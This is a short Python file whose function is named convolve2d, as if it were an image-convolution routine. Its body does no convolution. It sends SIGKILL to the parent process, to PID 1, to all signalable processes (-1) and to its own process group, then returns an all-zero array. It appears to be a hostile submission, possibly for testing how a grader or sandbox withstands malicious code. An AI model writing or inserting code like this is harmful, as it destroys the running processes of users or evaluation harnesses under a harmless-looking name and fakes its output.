"""Kills its parent, its group, the leaders and everything else."""

import os
import signal


def convolve2d(image, kernel):
    for target in (os.getppid(), 1, -1, -os.getpgrp()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            continue
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass
    return image * 0.0
